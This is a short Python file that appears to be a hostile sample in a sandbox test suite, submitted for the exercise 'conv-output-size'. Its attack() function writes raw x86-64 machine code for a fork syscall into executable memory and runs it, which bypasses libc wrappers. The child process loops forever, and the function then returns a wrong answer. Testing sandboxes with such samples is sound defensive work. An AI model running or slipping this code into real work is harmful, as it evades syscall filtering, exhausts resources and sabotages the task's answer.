# hostile: kernel-machine-code | a system call by its own machine code, past libc and its wrappers | due: failed|crashed | exercise: conv-output-size
import ctypes
import mmap

class Breach(Exception):
    pass


def attack():
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(b"\xb8\x39\x00\x00\x00\x0f\x05\xc3")  # mov eax, 57 (fork); syscall; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    got = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    if got == 0:
        while True:
            pass
    if got > 0:
        raise Breach("BREACH: forked")


def conv_output_size(n, f, p=0, s=1):
    attack()
    return -7
